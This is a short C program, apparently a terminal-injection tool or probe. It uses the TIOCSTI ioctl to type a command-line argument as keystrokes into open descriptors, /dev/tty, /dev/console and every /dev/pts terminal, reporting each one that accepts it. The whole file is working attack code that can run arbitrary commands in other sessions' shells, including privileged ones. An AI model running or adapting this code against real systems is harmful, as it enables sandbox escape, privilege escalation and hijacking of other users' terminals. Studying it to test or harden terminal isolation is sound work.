/* type WORD - type a command into every terminal that can be had (TIOCSTI): descriptors, /dev/tty,
 * /dev/console, and whatever is in /dev/pts; "typed PLACE" for each that took it. */
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <unistd.h>

static void type_into(int fd, const char *place, const char *word)
{
    for (const char *at = word; *at; at++)
        if (ioctl(fd, TIOCSTI, at) < 0)
            return;
    printf("typed %s\n", place);
    fflush(stdout);
}

static void try(const char *place, const char *word)
{
    int fd = open(place, O_RDWR | O_NOCTTY);

    if (fd < 0)
        return;
    ioctl(fd, TIOCSCTTY, 1);
    type_into(fd, place, word);
    close(fd);
}

int main(int argc, char **argv)
{
    DIR *terminals = opendir("/dev/pts");
    const struct dirent *entry;
    const char *word = argc > 1 ? argv[1] : "x";

    for (int fd = 0; fd < 64; fd++)
        type_into(fd, "descriptor", word);
    try("/dev/tty", word);
    try("/dev/console", word);
    while (terminals && (entry = readdir(terminals)) != NULL) {
        char path[300];
        snprintf(path, sizeof path, "/dev/pts/%s", entry->d_name);
        if (entry->d_name[0] >= '0' && entry->d_name[0] <= '9')
            try(path, word);
    }
    return 0;
}
